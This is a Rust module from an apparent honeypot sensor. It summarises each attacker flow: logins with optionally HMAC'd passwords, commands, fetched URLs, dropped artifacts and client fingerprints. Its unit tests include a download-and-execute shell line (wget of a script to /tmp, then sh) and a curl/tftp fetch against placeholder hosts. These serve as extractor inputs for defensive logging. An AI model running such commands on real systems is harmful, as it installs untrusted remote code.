//! What a flow's summary remembers until the flow ends.

use komainu_decode::{FileVia, Login, Secret, Side};
use serde::{Serialize, Serializer};
use serde_json::Value;

use super::secret::{self, Passwords};
use crate::artifact::{Kind, Sha256Digest, Stored};
use crate::eve::{AnyRecord, Text};
use crate::log::Time;

/// Things of one sort in a summary. All of them are in the lines before it.
const ENTRIES_MAX: usize = 256;
/// Bytes of text in all entries of one sort.
const ENTRIES_BYTES_MAX: usize = 24 * 1024;
/// Bytes of one text that somebody sent. What is longer is cut.
const TEXT_BYTES_MAX: usize = 4096;
/// The longest value of a fingerprint: JA4's raw forms are not kept.
const FINGERPRINT_BYTES_MAX: usize = 256;

/// What a flow showed.
#[derive(Debug, Default, Serialize)]
pub(super) struct Summary {
    #[serde(skip_serializing_if = "Entries::is_empty")]
    pub(super) auth: Entries<Auth>,
    #[serde(skip_serializing_if = "Entries::is_empty")]
    pub(super) commands: Entries<CommandLine>,
    #[serde(skip_serializing_if = "Entries::is_empty")]
    urls: Entries<Url>,
    #[serde(skip_serializing_if = "Entries::is_empty")]
    pub(super) artifacts: Entries<ArtifactLine>,
    #[serde(skip_serializing_if = "Entries::is_empty")]
    pub(super) runs: Entries<RunLine>,
    /// What a session did besides, each once.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    notes: Vec<&'static str>,
    #[serde(skip_serializing_if = "Fingerprints::is_empty")]
    fingerprints: Fingerprints,
}

/// A list with a bound; what is beyond it is left out of the summary.
#[derive(Debug)]
pub(super) struct Entries<T> {
    entries: Vec<T>,
    bytes: usize,
}

/// Something that a summary can hold.
pub(super) trait Entry {
    /// About how much memory it takes besides its own, in bytes.
    fn bytes(&self) -> usize;
}

/// Text that somebody sent.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Bytes(Box<[u8]>);

/// A login.
#[derive(Debug, Clone, Serialize)]
pub(super) struct Auth {
    timestamp: Time,
    user: Bytes,
    #[serde(skip_serializing_if = "Option::is_none")]
    password: Option<Value>,
    #[serde(skip_serializing_if = "Option::is_none")]
    password_hmac_sha256: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    mechanism: Option<&'static str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    response: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    response_hmac_sha256: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    key: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    accepted: Option<bool>,
}

/// A command.
#[derive(Debug, Clone, Serialize)]
pub(super) struct CommandLine {
    pub(super) timestamp: Time,
    pub(super) line: Bytes,
}

/// Something that was to be fetched.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub(super) struct Url {
    pub(super) url: Bytes,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(super) program: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(super) to: Option<Bytes>,
}

/// A program that was run and that the target does not have.
#[derive(Debug, Clone, Serialize)]
pub(super) struct RunLine {
    pub(super) timestamp: Time,
    pub(super) path: Bytes,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub(super) arguments: Vec<Bytes>,
}

/// A file that was left.
#[derive(Debug, Clone, Serialize)]
pub(super) struct ArtifactLine {
    timestamp: Time,
    sha256: Sha256Digest,
    bytes: u64,
    name: Bytes,
    via: &'static str,
    #[serde(skip_serializing_if = "Option::is_none")]
    why: Option<&'static str>,
    kind: String,
    stored: bool,
}

/// How an artifact came.
#[derive(Debug, Clone, Copy)]
pub(super) enum Via {
    /// A protocol carried it.
    File(FileVia),
    /// It was made by commands; why it was kept.
    Shell(&'static str),
    /// The sensor fetched it, because a URL was named.
    Fetch,
    /// The sensor found it in a shared folder of a real device.
    Share,
}

/// Names and values, in the order of the names.
#[derive(Debug, Default)]
struct Fingerprints(Vec<(&'static str, Box<str>)>);

/// Where the protocols' records have fingerprints: the event type, a JSON pointer (RFC 6901), the name in the summary.
const FINGERPRINTS: &[(&str, &str, &str)] = &[
    ("ssh", "/client/hassh/hash", "hassh"),
    ("ssh", "/client/software_version", "ssh_client"),
    ("tls", "/ja3/hash", "ja3"),
    ("tls", "/ja4", "ja4"),
    ("http", "/http_user_agent", "http_user_agent"),
    ("telnet", "/terminal_type", "telnet_terminal"),
];

impl Summary {
    pub(super) fn knows_url(&self, url: &Url) -> bool {
        self.urls.entries.iter().any(|known| known.url == url.url && (url.program.is_none() || known == url))
    }

    /// Whether the same has been named before, by whatever means.
    pub(super) fn names_url(&self, url: &Url) -> bool {
        self.urls.entries.iter().any(|known| known.url == url.url)
    }

    /// Adds a URL. What a program was told says more than the same URL in a command line, and replaces it.
    pub(super) fn add_url(&mut self, url: Url) {
        let known = self.urls.entries.iter_mut().find(|known| known.program.is_none() && known.url == url.url);
        match known {
            Some(known) => *known = url,
            None => self.urls.push(url),
        }
    }

    /// Adds a note; false when it is known.
    pub(super) fn add_note(&mut self, note: &'static str) -> bool {
        let is_new = !self.notes.contains(&note);
        if is_new {
            self.notes.push(note);
        }
        is_new
    }

    /// Takes the fingerprints out of a protocol's record of what `side` said.
    pub(super) fn note_fingerprints(&mut self, side: Side, record: &AnyRecord) {
        // Who speaks telnet is known by its options and their order: `do1 will31 …`.
        if record.event_type == "telnet"
            && side == Side::Client
            && let Some(option) = record.body.get("option")
            && let (Some(Value::String(verb)), Some(Value::Number(code))) = (option.get("verb"), option.get("code"))
        {
            self.add_to_fingerprint("telnet_options", &format!("{verb}{code}"));
        }
        for (event_type, pointer, name) in FINGERPRINTS {
            if *event_type != record.event_type {
                continue;
            }
            match record.body.pointer(pointer) {
                Some(Value::String(value)) => self.add_fingerprint(name, value),
                Some(value @ Value::Array(_)) => self.add_fingerprint(name, &value.to_string()),
                Some(_) | None => {}
            }
        }
    }

    /// Adds a word to a fingerprint that consists of words.
    fn add_to_fingerprint(&mut self, name: &'static str, word: &str) {
        let known = self.fingerprints.0.iter_mut().find(|(known, _)| *known == name);
        match known {
            Some((_, words)) if words.len() + 1 + word.len() <= FINGERPRINT_BYTES_MAX => {
                *words = format!("{words} {word}").into();
            }
            Some(_) => {}
            None => self.add_fingerprint(name, word),
        }
    }

    /// Adds a fingerprint, unless one of that name is known: the first is how the client began.
    pub(super) fn add_fingerprint(&mut self, name: &'static str, value: &str) {
        if value.len() > FINGERPRINT_BYTES_MAX {
            return;
        }
        if let Err(index) = self.fingerprints.0.binary_search_by_key(&name, |(name, _)| name) {
            self.fingerprints.0.insert(index, (name, value.into()));
        }
    }
}

impl Fingerprints {
    fn is_empty(&self) -> bool {
        self.0.is_empty()
    }
}

impl Serialize for Fingerprints {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.collect_map(self.0.iter().map(|(name, value)| (name, value)))
    }
}

impl<T> Default for Entries<T> {
    fn default() -> Self {
        Self { entries: Vec::new(), bytes: 0 }
    }
}

impl<T> Entries<T> {
    fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }
}

impl<T: Entry> Entries<T> {
    pub(super) fn push(&mut self, entry: T) {
        let bytes = self.bytes + entry.bytes();
        if self.entries.len() < ENTRIES_MAX && bytes <= ENTRIES_BYTES_MAX {
            self.bytes = bytes;
            self.entries.push(entry);
        }
    }
}

impl<T: Serialize> Serialize for Entries<T> {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        self.entries.serialize(serializer)
    }
}

impl Url {
    /// What a fetch needs of it.
    pub(super) fn wanted(&self) -> (Box<[u8]>, Option<String>) {
        (self.url.0.clone(), self.program.clone())
    }
}

impl Bytes {
    pub(super) fn of(bytes: &[u8]) -> Self {
        Self(bytes[..bytes.len().min(TEXT_BYTES_MAX)].into())
    }
}

impl Serialize for Bytes {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        Text(&self.0).serialize(serializer)
    }
}

impl Auth {
    pub(super) fn new(at: i64, login: &Login<'_>, passwords: &Passwords) -> Self {
        let mut auth = Self {
            timestamp: Time(at),
            user: Bytes::of(login.user),
            password: None,
            password_hmac_sha256: None,
            mechanism: None,
            response: None,
            response_hmac_sha256: None,
            key: None,
            accepted: login.accepted,
        };
        match login.secret {
            Secret::None => {}
            Secret::Password(password) => match passwords.digest(password) {
                Some(digest) => auth.password_hmac_sha256 = Some(digest),
                None => auth.password = Some(secret::text(&password[..password.len().min(TEXT_BYTES_MAX)])),
            },
            // Passwords can be found from answers to challenges, with patience.
            Secret::Response { mechanism, bytes } => {
                auth.mechanism = Some(mechanism);
                match passwords.digest(bytes) {
                    Some(digest) => auth.response_hmac_sha256 = Some(digest),
                    None => auth.response = Some(hex::encode(&bytes[..bytes.len().min(TEXT_BYTES_MAX)])),
                }
            }
            Secret::PublicKey { fingerprint } => {
                auth.mechanism = Some("publickey");
                auth.key = Some(fingerprint.chars().take(FINGERPRINT_BYTES_MAX).collect());
            }
        }
        auth
    }
}

impl Entry for Auth {
    fn bytes(&self) -> usize {
        let shown = self.password.as_ref().and_then(Value::as_str).map_or(64, str::len);
        let texts = [&self.response, &self.key];
        self.user.0.len() + shown + texts.into_iter().flatten().map(String::len).sum::<usize>()
    }
}

impl Entry for CommandLine {
    fn bytes(&self) -> usize {
        self.line.0.len()
    }
}

impl Entry for Url {
    fn bytes(&self) -> usize {
        self.url.0.len() + self.program.as_ref().map_or(0, String::len) + self.to.as_ref().map_or(0, |to| to.0.len())
    }
}

impl Entry for RunLine {
    fn bytes(&self) -> usize {
        self.path.0.len() + self.arguments.iter().map(|one| one.0.len() + size_of::<Bytes>()).sum::<usize>()
    }
}

impl ArtifactLine {
    pub(super) fn new(at: i64, sha256: Sha256Digest, contents: &[u8], name: &[u8], via: Via, stored: Stored) -> Self {
        let (via, why) = match via {
            Via::File(via) => (via_name(via), None),
            Via::Shell(why) => ("shell", Some(why)),
            Via::Fetch => ("fetch", None),
            Via::Share => ("share", None),
        };
        Self {
            timestamp: Time(at),
            sha256,
            bytes: contents.len() as u64,
            name: Bytes::of(name),
            via,
            why,
            kind: Kind::of(contents).to_string(),
            stored: stored != Stored::No,
        }
    }
}

impl Entry for ArtifactLine {
    fn bytes(&self) -> usize {
        self.name.0.len() + self.kind.len()
    }
}

fn via_name(via: FileVia) -> &'static str {
    match via {
        FileVia::HttpRequest => "http_request",
        FileVia::HttpForm => "http_form",
        FileVia::HttpResponse => "http_response",
        FileVia::FtpUpload => "ftp_upload",
        FileVia::FtpDownload => "ftp_download",
        FileVia::TftpUpload => "tftp_upload",
        FileVia::TftpDownload => "tftp_download",
        FileVia::SmbWrite => "smb_write",
        FileVia::SmbRead => "smb_read",
        FileVia::AdbPush => "adb_push",
        FileVia::AdbPull => "adb_pull",
        FileVia::MqttPublish => "mqtt_publish",
        FileVia::RedisReplication => "redis_replication",
        FileVia::RedisSave => "redis_save",
        FileVia::ScpUpload => "scp_upload",
        FileVia::SftpUpload => "sftp_upload",
    }
}

/// The URLs in a command line: from a scheme to what cannot be in a URL that is written in a shell.
pub(super) fn urls_in(line: &[u8]) -> impl Iterator<Item = &[u8]> {
    const SCHEMES: &[&[u8]] = &[b"http", b"https", b"ftp", b"tftp"];
    let mut from = 0;
    std::iter::from_fn(move || {
        loop {
            let colon = from + line.get(from..)?.windows(3).position(|window| window == b"://")?;
            let letters = line[from..colon].iter().rev().take_while(|byte| byte.is_ascii_alphabetic()).count();
            let scheme = &line[colon - letters..colon];
            let is_end =
                |byte: &u8| byte.is_ascii_whitespace() || byte.is_ascii_control() || b"\"'`;|&<>()".contains(byte);
            let rest = &line[colon + 3..];
            let bytes = rest.iter().position(is_end).unwrap_or(rest.len());
            let end = colon + 3 + bytes;
            from = end;
            if bytes > 0 && SCHEMES.iter().any(|known| scheme.eq_ignore_ascii_case(known)) {
                return Some(&line[colon - letters..end]);
            }
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn urls_in_command_lines() {
        let check = |line: &str, expected: &[&str]| {
            let found: Vec<_> = urls_in(line.as_bytes()).map(|url| std::str::from_utf8(url).unwrap()).collect();
            assert_eq!(found, expected, "{line}");
        };
        check("cd /tmp; wget http://192.0.2.1/a.sh; sh a.sh", &["http://192.0.2.1/a.sh"]);
        check(
            "curl -O 'HTTPS://x.example/b?c=d' || tftp://192.0.2.1/e",
            &["HTTPS://x.example/b?c=d", "tftp://192.0.2.1/e"],
        );
        check("echo ://", &[]);
        check("http://", &[]);
        check("gopher://a/ ftp://b/", &["ftp://b/"]);
    }

    #[test]
    fn a_summary_is_bounded() {
        let mut commands = Entries::default();
        for _ in 0..1000 {
            commands.push(CommandLine { timestamp: Time(0), line: Bytes::of(&[b'a'; 10_000]) });
        }
        assert_eq!(commands.entries.len(), ENTRIES_BYTES_MAX / TEXT_BYTES_MAX);
    }
}
